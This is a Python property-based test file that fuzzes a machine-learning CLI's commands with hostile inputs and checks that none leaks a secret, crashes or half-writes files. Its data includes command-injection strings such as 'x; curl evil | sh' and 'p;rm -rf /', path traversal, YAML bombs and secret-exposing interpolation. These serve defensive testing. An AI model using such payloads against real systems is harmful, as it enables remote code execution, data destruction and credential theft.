"""Bad input, generated: every entry point of the CLI fed many hostile inputs, with a secret in the
environment. Each run must keep the contract (tests/support/cli.py): success or exit 2 with one
line naming the culprit, no traceback, the secret in no output and no written file, and on failure
nothing half-written (the target exactly as before). docs/reliability.md lists the mechanisms.

No Ray: every generated config points at a dataset that is not there, so `train` and `sweep` stop
before Ray starts; `submit` sends to a dashboard address nothing listens on. Runs are in-process.
The examples are derandomised (the same inputs in every run of the suite); to search further, set
VIS4MER_HYPOTHESIS_EXAMPLES to a larger number and VIS4MER_HYPOTHESIS_RANDOM=1.
"""
from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

import numpy as np
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.cli import assert_contract, files_under, run_main
from tests.support.runs import ROOT, SYNTHETIC_YAML

SECRET_VAR = "VIS4MER_TEST_SECRET"
SECRET = "s3ntinel-Secret-7f3a9c1e"
EXAMPLES = int(os.environ.get("VIS4MER_HYPOTHESIS_EXAMPLES", "30"))
PROFILE = settings(max_examples=EXAMPLES, deadline=None, derandomize=not os.environ.get("VIS4MER_HYPOTHESIS_RANDOM"),
                   database=None,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# text a shell can pass (no NUL, no lone surrogates), and values hostile users try
_chars = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
HOSTILE = ["${oc.env:" + SECRET_VAR + "}", "x${oc.env:" + SECRET_VAR + "}y", "\\${oc.env:" + SECRET_VAR + "}",
           "inf", "-inf", "nan", "1e999", "9" * 30, "-1", "0", "", "..", "../..", "a\n", "x'y", 'x"y', "null",
           "true", "[1, 2", "{a: 1}", "http://user:" + SECRET + "@host:5000", "s3://key:" + SECRET + "@bucket/x",
           "/etc/passwd", "a" * 300, "\ufeffbom", "-0.0", "1.5", "[]", "{}", "~"]
text = st.one_of(st.sampled_from(HOSTILE), st.text(_chars, max_size=30))
CONFIG_KEYS = ["model.d_model", "model.n_layers", "model.d_state", "model.kernel", "model.dropout", "model.pool",
               "model.pool_type", "model.width_div", "model.init", "data.uri", "data.batch_size", "data.shuffle_buffer",
               "data.eval_splits", "data.storage.endpoint_url", "data.storage.profile", "optim.lr", "optim.clip_norm",
               "schedule.kind", "schedule.min_lr", "schedule.factor", "train.epochs", "train.seed",
               "train.fail_at_epoch", "scaling.num_workers", "scaling.cpus_per_worker", "scaling.placement_strategy",
               "run.name", "run.storage_path", "run.storage.endpoint_url", "tracking.tracking_uri",
               "tracking.experiment", "nope.key", "model", "optim"]
override = st.builds(lambda k, v: f"{k}={v}", st.sampled_from(CONFIG_KEYS), text)


@pytest.fixture(autouse=True)
def _secret_in_env(monkeypatch):
    monkeypatch.setenv(SECRET_VAR, SECRET)


def _run(argv: list[str], cwd: Path, expect_failure: bool = False):
    before = files_under(cwd)
    r = run_main(argv, cwd)
    after = files_under(cwd)
    assert_contract(r, argv, SECRET, {k: v for k, v in after.items() if before.get(k) != v})  # what it wrote
    if expect_failure:
        assert r.code == 2, (argv, r.out[-500:])
    if r.code == 2:
        assert after == before, (argv, r.err, sorted(set(after) ^ set(before)))
    return r


@PROFILE
@given(st.lists(override, min_size=1, max_size=4))
def test_train_overrides(overrides):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        _run(["train", SYNTHETIC_YAML, f"data.uri={cwd}/absent", *overrides], cwd, expect_failure=True)


def _space_entry():
    arg = st.one_of(st.lists(st.one_of(st.integers(-3, 10**20), st.floats(), text), max_size=3), text,
                    st.integers(), st.none())
    return st.dictionaries(st.sampled_from(["grid", "choice", "uniform", "loguniform", "randint", "gaussian"]), arg,
                           min_size=0, max_size=2)


SWEEP = st.fixed_dictionaries(
    {"name": st.one_of(text, st.none(), st.integers()), "base": st.sampled_from([SYNTHETIC_YAML, "nope.yaml", ""]),
     "search_space": st.one_of(st.dictionaries(st.sampled_from(CONFIG_KEYS), _space_entry(), max_size=3), text)},
    optional={"overrides": st.dictionaries(st.sampled_from(CONFIG_KEYS), text, max_size=3),
              "scheduler": st.dictionaries(st.sampled_from(["kind", "grace_period", "max_t", "x"]),
                                           st.one_of(text, st.integers(-5, 10)), max_size=3),
              "budget": st.dictionaries(st.sampled_from(["num_samples", "max_concurrent_trials", "max_failures", "y"]),
                                        st.one_of(st.integers(-5, 2**70), text, st.none()), max_size=3),
              "metric": st.one_of(text, st.integers())})


@PROFILE
@given(SWEEP)
def test_sweep_files(sweep):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        sweep.setdefault("overrides", {})
        if isinstance(sweep["overrides"], dict):
            sweep["overrides"]["data.uri"] = f"{cwd}/absent"  # never a real dataset: no Ray
        (cwd / "s.yaml").write_text(yaml.safe_dump(sweep, allow_unicode=True))
        _run(["sweep", "s.yaml"], cwd, expect_failure=True)


YAML_BOMBS = ["a: &a [1, 2]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n"
              "d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n"
              "f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: [*f, *f, *f, *f, *f, *f, *f, *f, *f]\n",
              "[" * 5000 + "]" * 5000, "a: 1\na: 2\n", "\x89PNG\r\n\x1a\n\x00\x00", "name: x\n  bad indent: [",
              "- just\n- a list\n", "", "key: \udc80"[:-1],
              "a: &a [*a]\n", "a: &a {b: *a}\n", "search_space: &s {optim.lr: {grid: [*s]}}\nname: x\n",
              "metadata: &m {annotations: {a: *m}}\nkind: RayJob\n"]


@PROFILE
@given(st.sampled_from(["train", "sweep", "k8s validate", "cloud validate", "k8s render", "cloud render --sweep"]),
       st.one_of(st.sampled_from(YAML_BOMBS), st.text(_chars, max_size=200)), st.booleans())
def test_yaml_files_of_every_loader(command, body, as_folder):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        path = cwd / "f.yaml"
        if as_folder:
            path.mkdir()
        else:
            path.write_text(body, errors="surrogateescape")
        words = command.split()
        tail = {"k8s render": ["--image", "x", "--workers", "1", "--gpus-per-worker", "1"],
                "cloud render --sweep": ["--provider", "aws"]}.get(command, [])
        argv = [*words[:2], str(path), *tail] if command != "cloud render --sweep" else \
            ["cloud", "render", "--sweep", str(path), *tail]
        _run(argv, cwd, expect_failure=True)


@pytest.fixture(scope="module")
def good_dataset(tmp_path_factory):
    from vis4mer.datasets.synthetic import write_synthetic

    uri = str(tmp_path_factory.mktemp("good") / "ds")
    write_synthetic(uri, videos=(6, 3, 3), frames=12, min_frames=10, tokens=2, dim=4, seed=0)
    return Path(uri)


JSON_VALUES = st.recursive(st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70), st.floats(),
                                     st.sampled_from(HOSTILE), st.text(_chars, max_size=20)),
                           lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                   st.dictionaries(st.text(_chars, max_size=8), inner, max_size=3)),
                           max_leaves=8)
SHARD_KEYS = ["path", "split", "rows", "bytes", "sha256"]
TOP_KEYS = ["format_version", "task", "tokens_per_frame", "feature_dim", "dtype", "extractor", "shards"]


@PROFILE
@given(st.lists(st.tuples(st.sampled_from(["top", "shard", "task"]), st.text(_chars, max_size=3), JSON_VALUES,
                          st.booleans()), min_size=1, max_size=3),
       st.sampled_from(["verify", "inspect"]))
def test_manifests(good_dataset, mutations, command):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        ds = cwd / "ds"
        shutil.copytree(good_dataset, ds)
        m = json.loads((ds / "manifest.json").read_text())
        for where, extra_key, value, known in mutations:
            shards = m.get("shards") if isinstance(m.get("shards"), list) else [None]
            target = {"top": m, "shard": shards[0] if shards else None, "task": m.get("task")}[where]
            if not isinstance(target, dict):
                continue  # an earlier mutation replaced it
            keys = {"top": TOP_KEYS, "shard": SHARD_KEYS, "task": sorted(target) or ["name"]}[where]
            key = keys[sum(map(ord, extra_key)) % len(keys)] if known else extra_key
            target[key] = value
        (ds / "manifest.json").write_text(json.dumps(m))
        r = _run(["data", command, str(ds)], cwd)
        if r.code == 0:  # then every shard it read is inside the dataset and a known split
            assert all(s["split"] in ("train", "val", "test") and ".." not in str(s["path"]).split("/")
                       and not str(s["path"]).startswith("/") for s in m["shards"]), m["shards"]


@PROFILE
@given(st.sampled_from(["traversal", "absolute", "other-split", "twice", "deep"]))
def test_manifest_paths_stay_inside_the_dataset(good_dataset, how):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        ds = cwd / "a" / "ds"
        shutil.copytree(good_dataset, ds)
        m = json.loads((ds / "manifest.json").read_text())
        outside = cwd / "other.parquet"
        shutil.copy(ds / m["shards"][0]["path"], outside)
        s0 = m["shards"][0]
        if how == "traversal":
            s0["path"] = "../../other.parquet"
        elif how == "absolute":
            s0["path"] = str(outside)
        elif how == "other-split":
            s0["split"] = "holdout"
        elif how == "twice":
            m["shards"].append(dict(m["shards"][-1], split="train"))
        else:
            (ds / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
        if how != "deep":
            (ds / "manifest.json").write_text(json.dumps(m))
        for command in ("verify", "inspect"):
            _run(["data", command, str(ds)], cwd, expect_failure=True)


@PROFILE
@given(st.sampled_from(["empty", "file", "under-file", "non-empty", "dataset"]), st.booleans(),
       st.integers(-3, 40), st.sampled_from(["1", "0.001", "-1", "inf", "nan", "1e9"]))
def test_data_synth_targets(target, overwrite, frames, shard_mb):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        out = cwd / "out"
        if target == "file":
            out.write_text("a user's file")
        elif target == "under-file":
            (cwd / "f").write_text("a user's file")
            out = cwd / "f" / "out"
        elif target == "non-empty":
            out.mkdir()
            (out / "notes.txt").write_text("a user's file")
        elif target == "dataset":
            assert run_main(["data", "synth", str(out), "--videos", "4", "2", "2", "--frames", "8"], cwd).code == 0
        argv = ["data", "synth", str(out), "--videos", "4", "2", "2", "--frames", str(frames), "--tokens", "2",
                "--dim", "4", "--shard-mb", shard_mb] + (["--overwrite"] if overwrite else [])
        r = _run(argv, cwd)
        if r.code == 0:
            assert run_main(["data", "verify", str(out)], cwd).code == 0
        if target in ("file", "under-file", "non-empty"):
            assert "a user's file" in "".join(p.read_text(errors="replace") for p in cwd.rglob("*") if p.is_file())


def test_a_failed_overwrite_leaves_the_previous_dataset_exactly(tmp_path, monkeypatch):
    """A write that fails halfway (here: the third shard) keeps every byte of the dataset it was to
    replace; the new shards are gone."""
    from vis4mer.datasets import format as fmt
    from vis4mer.datasets.synthetic import write_synthetic

    out = tmp_path / "ds"
    write_synthetic(str(out), videos=(8, 4, 4), frames=8, min_frames=8, tokens=2, dim=4, seed=0, shard_bytes=1)
    before = files_under(out)
    real, calls = fmt.DatasetWriter._close_shard, []

    def failing(self, split):
        calls.append(split)
        if len(calls) == 3:
            raise OSError("disk full")
        return real(self, split)

    monkeypatch.setattr(fmt.DatasetWriter, "_close_shard", failing)
    with pytest.raises(OSError):
        write_synthetic(str(out), videos=(8, 4, 4), frames=8, min_frames=8, tokens=2, dim=4, seed=1, shard_bytes=1,
                        overwrite=True)
    assert files_under(out) == before
    monkeypatch.setattr(fmt.DatasetWriter, "_close_shard", real)
    write_synthetic(str(out), videos=(8, 4, 4), frames=8, min_frames=8, tokens=2, dim=4, seed=1, shard_bytes=1,
                    overwrite=True)
    assert not set(before) - {"manifest.json"} & set(files_under(out))  # the old shards are gone once replaced
    assert run_main(["data", "verify", str(out)], tmp_path).code == 0


LABEL_LINES = st.lists(st.one_of(
    st.builds(lambda i, y: f"{y} Drama {i} tt0000001", st.sampled_from(["abcdefghijk", "../x/y", "a/b", "..", "x y",
                                                                       "/etc/passwd", "ok_ID-12345"]),
              st.sampled_from(["0", "1", "3", "9", "-1", "x", "1.5", "inf"])),
    st.text(_chars, max_size=40)), max_size=4)


@PROFILE
@given(st.dictionaries(st.sampled_from(["train", "val", "test"]), LABEL_LINES, min_size=3, max_size=3),
       st.sampled_from(["good", "empty", "garbage", "folder", "nan"]), st.booleans())
def test_lvu_import(labels, npy, bom):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        (cwd / "labels" / "genre").mkdir(parents=True)
        for split, lines in labels.items():
            body = "\n".join(["class_id class_name youtube_id imdb_id", *lines]) + "\n"
            (cwd / "labels" / "genre" / f"{split}.csv").write_text(("\ufeff" if bom else "") + body)
        feats = cwd / "feats"
        feats.mkdir()
        for vid in ("abcdefghijk", "ok_ID-12345"):
            p = feats / f"{vid}.npy"
            if npy == "good":
                np.save(p, np.zeros((2, 197, 1024), np.float16))
            elif npy == "nan":
                np.save(p, np.full((2, 197, 1024), np.nan, np.float16))
            elif npy == "empty":
                p.write_bytes(b"")
            elif npy == "garbage":
                p.write_bytes(b"\x93NUMPY garbage")
            else:
                p.mkdir()
        (cwd / "x").mkdir()
        np.save(cwd / "x" / "y.npy", np.zeros((2, 197, 1024), np.float16))  # what '../x/y' would reach
        argv = ["data", "import-lvu", "--task", "genre", "--labels", str(cwd / "labels"), "--features", str(feats),
                "--out", str(cwd / "out"), "--shard-mb", "1"]
        r = _run(argv, cwd)
        if r.code == 0:
            assert run_main(["data", "verify", str(cwd / "out")], cwd).code == 0
            ids = [line.split()[-2] for lines in labels.values() for line in lines if len(line.split()) >= 4]
            assert not {"../x/y", "a/b", "..", "/etc/passwd"} & set(ids), labels  # a path is never an id


@PROFILE
@given(st.fixed_dictionaries({
    "--image": st.one_of(st.sampled_from(["localhost:5000/vis4mer:0.1.0", "registry.example.com/vis4mer:0.1.0",
                                          "x$(touch pwned)", "img\n"]), text),
    "--workers": st.one_of(st.integers(-2, 2**40).map(str), text),
    "--gpus-per-worker": st.one_of(st.integers(-1, 100).map(str), text),
    "--namespace": text, "--name": text, "--secret": text, "--memory": text, "--mlflow-uri": text,
    "--ttl-seconds": st.one_of(st.integers(-1, 2**40).map(str), text)}),
    st.lists(override, max_size=2), st.booleans())
def test_k8s_render(flags, overrides, to_file):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        argv = ["k8s", "render", str(ROOT / "sweeps" / "lvu_genre.yaml"), "data.uri=s3://b/d",
                "run.storage_path=s3://b/r", *overrides]
        for flag, value in flags.items():
            argv += [flag, value] if not value.startswith("-") else [f"{flag}={value}"]
        if to_file:
            argv += ["--out", str(cwd / "job.yaml")]
        r = _run(argv, cwd)
        if r.code == 0 and to_file:
            assert run_main(["k8s", "validate", str(cwd / "job.yaml")], cwd).code == 0


@PROFILE
@given(st.fixed_dictionaries({
    "--image": st.one_of(st.sampled_from(["rayproject/ray:2.60.0-py311-gpu", "x; curl evil | sh", "a\n"]), text),
    "--project": st.one_of(st.sampled_from(["my-project-1", "p;rm -rf /", "ab"]), text),
    "--region": text, "--cluster-name": text, "--workers": st.one_of(st.integers(-1, 2**40).map(str), text),
    "--head-identity": text, "--machine-image": text}),
    st.sampled_from(["aws", "gcp"]))
def test_cloud_render(flags, provider):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        argv = ["cloud", "render", "--provider", provider, "--out", str(cwd / "c.yaml")]
        for flag, value in flags.items():
            argv += [f"{flag}={value}"]
        r = _run(argv, cwd)
        if r.code == 0:
            assert run_main(["cloud", "validate", str(cwd / "c.yaml")], cwd).code == 0
            text_out = (cwd / "c.yaml").read_text()
            assert "$(" not in text_out and ";" not in text_out.split("docker:")[1].split("\n")[1]


@PROFILE
@given(st.sampled_from(["text", "folder", "empty", "sqlite-no-tables", "experiments-only", "missing", "http-down",
                        "with-creds", "junk", "no-driver", "databricks", "bad-port", "long-name"]),
       st.one_of(st.sampled_from(["demo", "x'y", "..", "a\n", "a b", "${oc.env:" + SECRET_VAR + "}"]), text),
       st.sampled_from(["best", "report"]))
def test_readers_never_create_or_hang(store, sweep, command):
    import sqlite3

    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        db = cwd / "m.db"
        if store == "text":
            db.write_text("not a database")
        elif store == "folder":
            db.mkdir()
        elif store == "empty":
            db.write_bytes(b"")
        elif store in ("sqlite-no-tables", "experiments-only"):
            table = "t" if store == "sqlite-no-tables" else "experiments"
            sqlite3.connect(db).execute(f"CREATE TABLE {table} (x)").connection.commit()
        uri = {"http-down": "http://127.0.0.1:1", "with-creds": f"http://user:{SECRET}@127.0.0.1:1",
               "junk": "ftp://x", "no-driver": "postgresql://127.0.0.1:1/mlflow", "databricks": "databricks://x",
               "bad-port": "http://127.0.0.1:99999", "long-name": f"sqlite:///{cwd}/{'a' * 300}.db",
               }.get(store, f"sqlite:///{db}")
        argv = ["best", "--sweep", sweep, "--tracking-uri", uri, "--out", str(cwd / "b.yaml")] if command == "best" \
            else ["report", sweep, "--tracking-uri", uri, "--out", str(cwd / "plots")]
        _run(argv, cwd, expect_failure=True)


@PROFILE
@given(st.lists(override, max_size=3), st.lists(st.one_of(st.just(SECRET_VAR), text), max_size=2),
       st.lists(text, max_size=1), st.one_of(st.none(), text))
def test_submit(overrides, env, pip, submission_id):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        argv = ["submit", SYNTHETIC_YAML, "data.uri=s3://b/d", *overrides,
                "--address", "http://127.0.0.1:1"]
        for name in env:
            argv += [f"--env={name}"]
        for req in pip:
            argv += [f"--pip={req}"]
        if submission_id is not None:
            argv += [f"--submission-id={submission_id}"]
        _run(argv, cwd, expect_failure=True)


@PROFILE
@given(st.sampled_from(["--epochs", "--length", "--seed"]), text)
def test_numeric_options(flag, value):
    with tempfile.TemporaryDirectory() as tmp:
        # `demo --model-only` with a bad number fails at parsing, before any training
        r = _run(["demo", "--model-only", f"{flag}={value}", "--epochs=0"], Path(tmp), expect_failure=True)
        assert "--epochs" in r.err or flag in r.err


# text with the characters that end a line somewhere (YAML, a terminal, Unicode)
LINE_BREAKING = st.text(st.one_of(_chars, st.sampled_from("\n\r\x0b\x0c\x1c\x85\u2028\u2029\t\x1b")), min_size=1,
                        max_size=20)


@PROFILE
@given(st.sampled_from(["train", "sweep", "k8s validate", "cloud validate", "data verify", "data inspect"]),
       LINE_BREAKING)
def test_a_file_name_that_breaks_lines_stays_in_one_error_line(command, name):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        name = name.replace("/", "_")
        if name in (".", ".."):
            name = "x" + name
        _run([*command.split(), str(cwd / "absent" / name)], cwd, expect_failure=True)


@PROFILE
@given(st.lists(LINE_BREAKING, max_size=4), st.dictionaries(st.text(_chars, max_size=5), st.text(_chars, max_size=5),
                                                            max_size=3))
def test_written_comments_cannot_add_yaml(header, body):
    """Whatever a header line holds (a file name, a command line), the written YAML means the object."""
    from vis4mer.orchestrator.files import dump_yaml

    text = dump_yaml(body, header)
    lines = text.split("\n")
    assert all(line.startswith("# ") for line in lines[:len(header)])
    assert yaml.safe_load(text) == body


def test_a_rendered_file_named_with_line_breaks_is_valid_and_readable(tmp_path):
    from tests.support.cli import run_main

    for argv in ([*_K8S, "--out"], ["cloud", "render", "--provider", "aws", "--out"]):
        out = tmp_path / "x\nkind: Pod\nmax_workers: 999\n.yaml"
        r = run_main([*argv, str(out)], ROOT)
        assert r.code == 0, r.err
        assert "kind: Pod" not in out.read_text().split("\n")
        assert run_main([argv[0], "validate", str(out)], ROOT).code == 0
        umask = os.umask(0)
        os.umask(umask)
        assert out.stat().st_mode & 0o777 == 0o666 & ~umask  # as `open(path, "w")` makes it, not mkstemp's 0600
        out.unlink()


_K8S = ["k8s", "render", str(ROOT / "sweeps" / "lvu_genre.yaml"), "data.uri=s3://b/d", "run.storage_path=s3://b/r",
        "--mlflow-uri", "http://mlflow:5000", "--image", "localhost:5000/vis4mer:0.1.0", "--workers", "1",
        "--gpus-per-worker", "1"]


@PROFILE
@given(st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=8, max_size=40), st.data())
def test_a_secret_cut_short_is_still_masked(secret, data):
    """Error lines show at most so many characters of a value: what is left of a secret is masked."""
    from vis4mer.orchestrator.secret_names import MIN_CUT_LEN, redact

    cut = data.draw(st.integers(MIN_CUT_LEN, len(secret)))
    before, after = data.draw(st.text(_chars, max_size=10)), data.draw(st.text(_chars, max_size=10))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SOME_API_TOKEN", secret)
        shown = redact(f"{before}{secret[:cut]}{after}")
    assert secret[:cut] not in shown


@PROFILE
@given(st.sampled_from([["data", "synth", "OUT", "--videos", "2", "1", "1", "--frames", "2", "--tokens", "1", "--dim",
                         "1", "--seed"],
                        [*_K8S[:-4], "--gpus-per-worker", "1", "--workers"],
                        ["cloud", "render", "--provider", "aws", "--out", "OUT", "--workers"]]),
       st.one_of(st.integers(-2**70, 2**70), st.sampled_from([-1, 0, 2**31 - 1, 2**31, 2**32 - 1, 2**32, 2**63])))
def test_integer_options_are_bounded(argv, value):
    with tempfile.TemporaryDirectory() as tmp:
        cwd = Path(tmp)
        _run([a.replace("OUT", str(cwd / "o")) for a in argv] + [str(value)], cwd)
